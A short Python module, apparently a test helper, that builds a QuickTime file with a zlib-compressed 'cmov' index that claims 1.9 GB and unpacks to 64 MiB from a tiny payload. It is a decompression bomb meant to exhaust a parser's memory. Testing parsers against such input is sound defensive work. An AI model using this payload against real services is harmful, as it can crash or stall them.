"""A small file that asks for a lot of memory."""

import zlib

MIB = 1024 * 1024


def bomb(unpacked: int = 64, claimed: int = 1_900_000_000) -> bytes:
    """A QuickTime file whose compressed index (`cmov`) claims 1.9 GB and unpacks to 64 MiB from 64 kB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(unpacked)) + packer.flush()

    def box(kind: bytes, body: bytes) -> bytes:
        return (len(body) + 8).to_bytes(4, "big") + kind + body

    index = box(b"cmov", box(b"dcom", b"zlib") + box(b"cmvd", claimed.to_bytes(4, "big") + packed))
    return box(b"ftyp", b"qt  " + bytes(4) + b"qt  ") + box(b"moov", index)
